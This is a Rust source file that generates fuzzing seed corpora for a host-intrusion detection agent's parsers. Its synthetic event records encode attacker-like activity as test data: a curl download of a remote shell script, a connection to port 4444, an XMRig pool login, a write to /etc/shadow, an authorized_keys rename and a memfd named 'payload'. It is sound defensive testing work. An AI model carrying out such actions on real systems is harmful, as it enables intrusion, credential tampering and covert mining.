//! Writes the seed corpora under `fuzz/corpus/<target>/`: ring-buffer records of every kind
//! (filled as the sensors fill them), DNS messages (queries, answers with compression, CNAME
//! chains, NXDOMAIN, a TCP segment), spool entries (the JSON `Spool::push` writes), and, from the
//! repository, the heads of the built-in threat lists (plain and gzip), STIX bundles, the agent's
//! rules files, the example suppression rules and policies.
//!
//! `scripts/fuzz.sh --seeds` builds and runs it with the fuzz targets' flags.

use std::{
    fs,
    mem::size_of,
    net::{Ipv4Addr, Ipv6Addr},
    path::Path,
};

use anyhow::Context as _;
// Links the coverage runtime the instrumented dependencies call (this example is built with the
// fuzz targets' flags, so it reuses their build).
use libfuzzer_sys as _;
use node_agent::cluster::publish::{Action, PublishConfig, event_for};
use node_agent_common::{
    ActivityEvent, DnsEvent, EventHeader, ExecEvent, ExitEvent, FileEvent, ForkEvent, NetEvent,
    StreamEvent, SyntheticEvent, activity, direction, exec_flags, family, file_flags, file_op,
    kind,
};
use vigil_crds::finding::{Finding, SeverityLabel};
use vigil_fuzz::{DnsBuilder, put_task, record};

/// Writes `bytes` at `offset` of a record.
fn put(record: &mut [u8], offset: usize, bytes: &[u8]) {
    record[offset..offset + bytes.len()].copy_from_slice(bytes);
}

fn u32_at(record: &mut [u8], offset: usize, value: u32) {
    put(record, offset, &value.to_ne_bytes());
}

fn u16_at(record: &mut [u8], offset: usize, value: u16) {
    put(record, offset, &value.to_ne_bytes());
}

fn records() -> Vec<(&'static str, Vec<u8>)> {
    use std::mem::offset_of;
    let mut out = Vec::new();

    // exec: /usr/bin/curl run from /srv with arguments, LD_PRELOAD set, file written after start.
    let mut exec = record::<ExecEvent>(kind::EXEC, 5_000_000_000);
    put_task(&mut exec, 4242, 4200, 1000, "curl");
    let argv = b"curl\0-fsSL\0http://192.0.2.7/x.sh\0";
    let filename = b"/usr/bin/curl";
    let cwd = b"srv\0";
    put(&mut exec, offset_of!(ExecEvent, argv), argv);
    put(&mut exec, offset_of!(ExecEvent, filename), filename);
    put(&mut exec, offset_of!(ExecEvent, cwd), cwd);
    put(
        &mut exec,
        offset_of!(ExecEvent, ld_preload),
        b"/tmp/libx.so",
    );
    u32_at(
        &mut exec,
        offset_of!(ExecEvent, argv_len),
        argv.len() as u32,
    );
    u32_at(
        &mut exec,
        offset_of!(ExecEvent, filename_len),
        filename.len() as u32,
    );
    u32_at(&mut exec, offset_of!(ExecEvent, cwd_len), cwd.len() as u32);
    u32_at(&mut exec, offset_of!(ExecEvent, cwd_depth), 1);
    u32_at(&mut exec, offset_of!(ExecEvent, ld_preload_len), 12);
    u32_at(&mut exec, offset_of!(ExecEvent, exe_nlink), 1);
    u32_at(
        &mut exec,
        offset_of!(ExecEvent, flags),
        exec_flags::EXE_WRITTEN,
    );
    out.push(("exec-curl", exec));

    // fork and exit.
    let mut fork = record::<ForkEvent>(kind::FORK, 5_100_000_000);
    put_task(&mut fork, 4200, 1, 1000, "bash");
    u32_at(&mut fork, offset_of!(ForkEvent, child_tgid), 4243);
    out.push(("fork-bash", fork));
    let mut exit = record::<ExitEvent>(kind::EXIT, 5_200_000_000);
    put_task(&mut exit, 4242, 4200, 1000, "curl");
    u32_at(&mut exit, offset_of!(ExitEvent, exit_code), 256);
    out.push(("exit-curl", exit));

    // connect to an IPv4 address (with kernel-folded repeats) and accept on IPv6; a unix socket.
    let mut connect = record::<NetEvent>(kind::CONNECT, 5_300_000_000);
    put_task(&mut connect, 4242, 4200, 1000, "curl");
    u16_at(&mut connect, offset_of!(NetEvent, family), family::INET);
    u16_at(&mut connect, offset_of!(NetEvent, sock_type), 1);
    u16_at(&mut connect, offset_of!(NetEvent, protocol), 6);
    u16_at(&mut connect, offset_of!(NetEvent, port), 4444);
    put(&mut connect, offset_of!(NetEvent, addr), &[192, 0, 2, 7]);
    u32_at(&mut connect, offset_of!(NetEvent, repeats), 42);
    out.push(("connect-ipv4", connect));
    let mut accept = record::<NetEvent>(kind::ACCEPT, 5_400_000_000);
    put_task(&mut accept, 900, 1, 0, "sshd");
    u16_at(&mut accept, offset_of!(NetEvent, family), family::INET6);
    u16_at(&mut accept, offset_of!(NetEvent, port), 22);
    put(
        &mut accept,
        offset_of!(NetEvent, addr),
        &Ipv6Addr::new(0x2001, 0xdb8, 0, 0, 0, 0, 0, 1).octets(),
    );
    out.push(("accept-ipv6", accept));
    let mut unix = record::<NetEvent>(kind::CONNECT, 5_450_000_000);
    put_task(&mut unix, 4242, 4200, 0, "docker");
    u16_at(&mut unix, offset_of!(NetEvent, family), family::UNIX);
    put(
        &mut unix,
        offset_of!(NetEvent, unix_path),
        b"/var/run/docker.sock",
    );
    u32_at(&mut unix, offset_of!(NetEvent, unix_path_len), 20);
    out.push(("connect-unix", unix));

    // DNS: an answer over UDP and a query over TCP (length prefix).
    let answer = DnsBuilder::response(0x1234, 0)
        .question("pool.minexmr.com", 1)
        .a(Ipv4Addr::new(192, 0, 2, 9))
        .finish();
    let mut dns = record::<DnsEvent>(kind::DNS, 5_500_000_000);
    put_task(&mut dns, 4242, 4200, 1000, "xmrig");
    u16_at(
        &mut dns,
        offset_of!(DnsEvent, direction),
        direction::INGRESS,
    );
    u16_at(&mut dns, offset_of!(DnsEvent, protocol), 17);
    u16_at(&mut dns, offset_of!(DnsEvent, family), family::INET);
    u16_at(&mut dns, offset_of!(DnsEvent, port), 53);
    put(&mut dns, offset_of!(DnsEvent, addr), &[10, 96, 0, 10]);
    put(&mut dns, offset_of!(DnsEvent, payload), &answer);
    u32_at(
        &mut dns,
        offset_of!(DnsEvent, payload_len),
        answer.len() as u32,
    );
    out.push(("dns-udp-answer", dns));
    let query = DnsBuilder::query(7).question("example.com", 28).finish();
    let mut tcp = (query.len() as u16).to_be_bytes().to_vec();
    tcp.extend_from_slice(&query);
    let mut dns = record::<DnsEvent>(kind::DNS, 5_600_000_000);
    put_task(&mut dns, 4242, 4200, 1000, "dig");
    u16_at(&mut dns, offset_of!(DnsEvent, direction), direction::EGRESS);
    u16_at(&mut dns, offset_of!(DnsEvent, protocol), 6);
    put(&mut dns, offset_of!(DnsEvent, payload), &tcp);
    u32_at(
        &mut dns,
        offset_of!(DnsEvent, payload_len),
        tcp.len() as u32,
    );
    out.push(("dns-tcp-query", dns));

    // stream: XMRig's login request to a pool, the head the stream sensor sends.
    let login = br#"{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A","pass":"x","agent":"XMRig/6.21.0"}}"#;
    let mut stream = record::<StreamEvent>(kind::STREAM, 5_650_000_000);
    put_task(&mut stream, 4343, 4200, 1000, "kworker-sync");
    u16_at(&mut stream, offset_of!(StreamEvent, family), family::INET);
    u16_at(&mut stream, offset_of!(StreamEvent, local_port), 40_000);
    u16_at(&mut stream, offset_of!(StreamEvent, remote_port), 3333);
    put(&mut stream, offset_of!(StreamEvent, addr), &[192, 0, 2, 33]);
    put(&mut stream, offset_of!(StreamEvent, head), login);
    u32_at(
        &mut stream,
        offset_of!(StreamEvent, payload_len),
        login.len() as u32,
    );
    u32_at(
        &mut stream,
        offset_of!(StreamEvent, head_len),
        login.len() as u32,
    );
    out.push(("stream-xmrig-login", stream));

    // file: a write to /etc/shadow; a rename relative to a directory fd with a recorded base.
    let mut file = record::<FileEvent>(kind::FILE, 5_700_000_000);
    put_task(&mut file, 4242, 4200, 0, "sh");
    u16_at(&mut file, offset_of!(FileEvent, op), file_op::OPEN_WRITE);
    u32_at(
        &mut file,
        offset_of!(FileEvent, match_flags),
        file_flags::MATCH_PREFIX,
    );
    put(&mut file, offset_of!(FileEvent, path), b"/etc/shadow");
    u32_at(&mut file, offset_of!(FileEvent, path_len), 11);
    out.push(("file-open-write", file));
    let mut rename = record::<FileEvent>(kind::FILE, 5_800_000_000);
    put_task(&mut rename, 4242, 4200, 0, "mv");
    u16_at(&mut rename, offset_of!(FileEvent, op), file_op::RENAME);
    u32_at(
        &mut rename,
        offset_of!(FileEvent, match_flags),
        file_flags::MATCH_NAME | file_flags::HAS_BASE,
    );
    put(&mut rename, offset_of!(FileEvent, path), b"x");
    u32_at(&mut rename, offset_of!(FileEvent, path_len), 1);
    put(
        &mut rename,
        offset_of!(FileEvent, path2),
        b"authorized_keys",
    );
    u32_at(&mut rename, offset_of!(FileEvent, path2_len), 15);
    put(&mut rename, offset_of!(FileEvent, base), b".ssh\0root\0");
    u32_at(&mut rename, offset_of!(FileEvent, base_len), 10);
    u32_at(&mut rename, offset_of!(FileEvent, base_depth), 2);
    out.push(("file-rename-base", rename));

    // activity: memfd_create with a name, a mount with target and type, ptrace.
    let mut memfd = record::<ActivityEvent>(kind::ACTIVITY, 5_900_000_000);
    put_task(&mut memfd, 4242, 4200, 1000, "python3");
    u16_at(
        &mut memfd,
        offset_of!(ActivityEvent, op),
        activity::MEMFD_CREATE,
    );
    put(&mut memfd, offset_of!(ActivityEvent, str1), b"payload");
    u32_at(&mut memfd, offset_of!(ActivityEvent, str1_len), 7);
    out.push(("activity-memfd", memfd));
    let mut mount = record::<ActivityEvent>(kind::ACTIVITY, 6_000_000_000);
    put_task(&mut mount, 4242, 4200, 0, "mount");
    u16_at(&mut mount, offset_of!(ActivityEvent, op), activity::MOUNT);
    put(&mut mount, offset_of!(ActivityEvent, str1), b"/dev/sda1");
    u32_at(&mut mount, offset_of!(ActivityEvent, str1_len), 9);
    put(&mut mount, offset_of!(ActivityEvent, str2), b"/mnt");
    u32_at(&mut mount, offset_of!(ActivityEvent, str2_len), 4);
    put(&mut mount, offset_of!(ActivityEvent, str3), b"ext4");
    u32_at(&mut mount, offset_of!(ActivityEvent, str3_len), 4);
    out.push(("activity-mount", mount));
    let mut ptrace = record::<ActivityEvent>(kind::ACTIVITY, 6_100_000_000);
    put_task(&mut ptrace, 4242, 4200, 0, "gdb");
    u16_at(&mut ptrace, offset_of!(ActivityEvent, op), activity::PTRACE);
    put(
        &mut ptrace,
        offset_of!(ActivityEvent, args),
        &16u64.to_ne_bytes(),
    );
    out.push(("activity-ptrace", ptrace));

    let synthetic = record::<SyntheticEvent>(kind::SYNTHETIC, 1);
    out.push(("synthetic", synthetic));
    // A header alone, and a header whose size disagrees with its kind.
    let mut short = record::<ExitEvent>(kind::EXIT, 1);
    short.truncate(size_of::<EventHeader>());
    out.push(("header-only", short));
    out
}

fn dns_messages() -> Vec<(&'static str, Vec<u8>)> {
    let mut out = vec![
        (
            "query-a",
            DnsBuilder::query(1).question("example.com", 1).finish(),
        ),
        (
            "query-two-questions",
            DnsBuilder::query(2)
                .question("a.example", 1)
                .question("b.example", 28)
                .finish(),
        ),
        (
            "answer-a",
            DnsBuilder::response(3, 0)
                .question("pool.supportxmr.com", 1)
                .a(Ipv4Addr::new(192, 0, 2, 1))
                .a(Ipv4Addr::new(192, 0, 2, 2))
                .finish(),
        ),
        (
            "answer-aaaa",
            DnsBuilder::response(4, 0)
                .question("v6.example", 28)
                .answer(28, 60, &Ipv6Addr::LOCALHOST.octets())
                .finish(),
        ),
        (
            "nxdomain",
            DnsBuilder::response(5, 3)
                .question("xjw9qk2mzp.example", 1)
                .finish(),
        ),
        (
            "answer-txt",
            DnsBuilder::response(6, 0)
                .question("example.com", 16)
                .answer(16, 300, b"\x0bhello world")
                .finish(),
        ),
    ];
    // A CNAME whose target points back into the question name ("www" + pointer to offset 12).
    let cname = [3, b'w', b'w', b'w', 0xc0, 12];
    let mut chain = DnsBuilder::response(7, 0)
        .question("cdn.example.net", 1)
        .answer(5, 300, &cname);
    chain = chain.a(Ipv4Addr::new(198, 51, 100, 4));
    out.push(("answer-cname-compressed", chain.finish()));
    // Escapes: a label with a dot, a backslash, upper case and a control byte.
    let mut odd = DnsBuilder::query(8).finish();
    odd[4..6].copy_from_slice(&1u16.to_be_bytes());
    odd.extend_from_slice(b"\x05a.B\\\x01\x07example\x00\x00\x01\x00\x01");
    out.push(("query-escapes", odd));
    // A truncated answer section: the header announces more than the bytes hold.
    let mut cut = DnsBuilder::response(9, 0)
        .question("example.org", 1)
        .a(Ipv4Addr::new(192, 0, 2, 3))
        .finish();
    cut[7] = 3;
    cut.truncate(cut.len() - 2);
    out.push(("answer-cut", cut));
    // A TCP segment: the two-byte length prefix, as the sensor sees DNS over TCP.
    let query = DnsBuilder::query(10).question("example.com", 1).finish();
    let mut tcp = (query.len() as u16).to_be_bytes().to_vec();
    tcp.extend_from_slice(&query);
    out.push(("tcp-query", tcp));
    out
}

fn spool_entries() -> anyhow::Result<Vec<(&'static str, Vec<u8>)>> {
    let sample = include_str!("../../examples/findings/sample-finding.yaml");
    let doc: serde_yaml::Value = serde_yaml::from_str(sample).context("sample finding")?;
    let spec = doc
        .get("spec")
        .cloned()
        .context("sample finding has a spec")?;
    let finding: Finding = serde_yaml::from_value(spec).context("sample finding spec")?;
    let apply = Action::Apply {
        namespace: "shop".into(),
        name: finding.object_name(),
        finding: finding.clone(),
        archived_by: None,
        archived_at: None,
    };
    let archived = Action::Apply {
        namespace: "shop".into(),
        name: finding.object_name(),
        finding: finding.clone(),
        archived_by: Some("package-managers-in-ci".into()),
        archived_at: Some(finding.updated_at.clone()),
    };
    let config = PublishConfig {
        event_min_severity: SeverityLabel::Low,
        publishing_frequency: std::time::Duration::from_secs(900),
        max_new_findings_per_minute: 0,
        max_events_per_minute: 0,
        host_namespace: "vigil-system".into(),
        node: "node-a".into(),
        reporting_instance: "vigil-agent-x".into(),
    };
    let event = event_for(&config, "shop", &finding.object_name(), &finding);
    Ok(vec![
        ("apply", serde_json::to_vec(&apply)?),
        ("apply-archived", serde_json::to_vec(&archived)?),
        ("event", serde_json::to_vec(&event)?),
    ])
}

/// The first `lines` lines of a built-in list (`detection/data/<name>.txt.gz`).
fn list_head(repo: &Path, name: &str, lines: usize) -> anyhow::Result<String> {
    use std::io::Read as _;
    let path = repo.join("detection/data").join(format!("{name}.txt.gz"));
    let gz = fs::read(&path).with_context(|| path.display().to_string())?;
    let mut text = String::new();
    flate2::read::GzDecoder::new(&gz[..])
        .read_to_string(&mut text)
        .with_context(|| path.display().to_string())?;
    Ok(text.lines().take(lines).map(|l| format!("{l}\n")).collect())
}

fn gzip(bytes: &[u8]) -> anyhow::Result<Vec<u8>> {
    use std::io::Write as _;
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gz.write_all(bytes)?;
    Ok(gz.finish()?)
}

/// Plain-text lists, each behind the byte the target reads as the kind (0 ip, 1 domain,
/// 2 sha256), and the same lists gzip-compressed, with a small bomb.
fn lists(repo: &Path) -> anyhow::Result<(Vec<(String, Vec<u8>)>, Vec<(String, Vec<u8>)>)> {
    let mut plain = Vec::new();
    let mut gzipped = Vec::new();
    for (kind, name) in [
        (0u8, "c2-ips"),
        (0, "tor-exit-ips"),
        (1, "mining-domains"),
        (1, "phishing-domains"),
        (2, "malware-sha256"),
    ] {
        let head = list_head(repo, name, 24)?;
        let mut seed = vec![kind];
        seed.extend_from_slice(head.as_bytes());
        gzipped.push((format!("{name}.txt.gz"), gzip(head.as_bytes())?));
        plain.push((name.to_owned(), seed));
    }
    let odd: &[u8] = b"# comments, blanks, CIDR blocks and junk\n\n192.0.2.0/24   # a block\n2001:db8::/32\n::ffff:198.51.100.1\n10.0.0.0/33\n300.1.1.1\nnot an address\n";
    plain.push(("ips-odd".to_owned(), [&[0u8][..], odd].concat()));
    let odd: &[u8] = b"*.Evil.Example.  # wildcard, case, trailing dot\nbad..name\nhttp://x/y\nxn--bcher-kva.example\n\xff\xfe\n";
    plain.push(("domains-odd".to_owned(), [&[1u8][..], odd].concat()));
    gzipped.push(("zeros-64k.gz".to_owned(), gzip(&vec![0u8; 64 * 1024 + 1])?));
    Ok((plain, gzipped))
}

const STIX_BUNDLE: &str = r#"{"type": "bundle", "id": "bundle--1", "objects": [
  {"type": "indicator", "spec_version": "2.1", "id": "indicator--a", "pattern_type": "stix", "pattern": "[ipv4-addr:value = '198.51.100.7'] OR [ipv4-addr:value ISSUBSET '203.0.113.0/24']", "valid_from": "2026-01-01T00:00:00Z"},
  {"type": "indicator", "id": "indicator--b", "pattern": "[domain-name:value = 'c2.Example.net' OR domain-name:value = 'pool.example.org']"},
  {"type": "indicator", "id": "indicator--c", "pattern": "[file:hashes.'SHA-256' = '6b15cf51e4dff3e25b805173eef88940dbeb52b2662bd265450e6e54d5bb84d6']"},
  {"type": "indicator", "id": "indicator--d", "pattern": "[ipv6-addr:value = '2001:db8::1']", "valid_until": "2027-01-01T00:00:00.000Z"},
  {"type": "indicator", "id": "indicator--old", "pattern": "[ipv4-addr:value = '192.0.2.1']", "valid_until": "2026-01-01T00:00:00Z"},
  {"type": "indicator", "id": "indicator--revoked", "revoked": true, "pattern": "[ipv4-addr:value = '192.0.2.2']"},
  {"type": "indicator", "id": "indicator--and", "pattern": "[ipv4-addr:value = '192.0.2.3' AND domain-name:value = 'x.example']"},
  {"type": "indicator", "id": "indicator--sigma", "pattern_type": "sigma", "pattern": "title: x"},
  {"type": "indicator", "id": "indicator--escaped", "pattern": "[domain-name:value = 'it\\'s.example']"},
  {"type": "malware", "id": "malware--x", "name": "x", "is_family": true},
  {"type": "relationship", "id": "relationship--y", "relationship_type": "indicates", "source_ref": "indicator--a", "target_ref": "malware--x"}
]}
"#;

fn write_named(dir: &Path, entries: &[(String, Vec<u8>)]) -> anyhow::Result<()> {
    let borrowed: Vec<(&str, Vec<u8>)> = entries
        .iter()
        .map(|(n, b)| (n.as_str(), b.clone()))
        .collect();
    write(dir, &borrowed)
}

/// Every `*.yaml` of `dir`, by file name.
fn yaml_files(dir: &Path) -> anyhow::Result<Vec<(String, Vec<u8>)>> {
    let mut out = Vec::new();
    for entry in fs::read_dir(dir).with_context(|| dir.display().to_string())? {
        let path = entry?.path();
        if path.extension().is_some_and(|e| e == "yaml")
            && let Some(name) = path.file_name().and_then(|n| n.to_str())
        {
            out.push((
                name.to_owned(),
                fs::read(&path).with_context(|| path.display().to_string())?,
            ));
        }
    }
    out.sort();
    Ok(out)
}

fn write(dir: &Path, entries: &[(&str, Vec<u8>)]) -> anyhow::Result<()> {
    fs::create_dir_all(dir).with_context(|| dir.display().to_string())?;
    for (name, bytes) in entries {
        let path = dir.join(name);
        fs::write(&path, bytes).with_context(|| path.display().to_string())?;
    }
    println!("{}: {} seeds", dir.display(), entries.len());
    Ok(())
}

fn main() -> anyhow::Result<()> {
    let fuzz = Path::new(env!("CARGO_MANIFEST_DIR"));
    let repo = fuzz
        .parent()
        .context("the fuzz crate is inside the repository")?;
    let corpus = fuzz.join("corpus");
    write(&corpus.join("record_decode"), &records())?;
    write(&corpus.join("dns_parse"), &dns_messages())?;
    write(&corpus.join("spool_entry"), &spool_entries()?)?;
    let (plain, gzipped) = lists(repo)?;
    write_named(&corpus.join("intel_plain_text"), &plain)?;
    write_named(&corpus.join("intel_gzip"), &gzipped)?;
    write(
        &corpus.join("intel_stix"),
        &[("bundle", STIX_BUNDLE.as_bytes().to_vec())],
    )?;
    write_named(
        &corpus.join("agent_rules"),
        &yaml_files(&repo.join("node-agent/rules"))?,
    )?;
    write_named(
        &corpus.join("suppression_rules"),
        &yaml_files(&repo.join("examples/suppression-rules"))?,
    )?;
    write_named(
        &corpus.join("policy_render"),
        &yaml_files(&repo.join("examples/policies"))?,
    )?;
    Ok(())
}
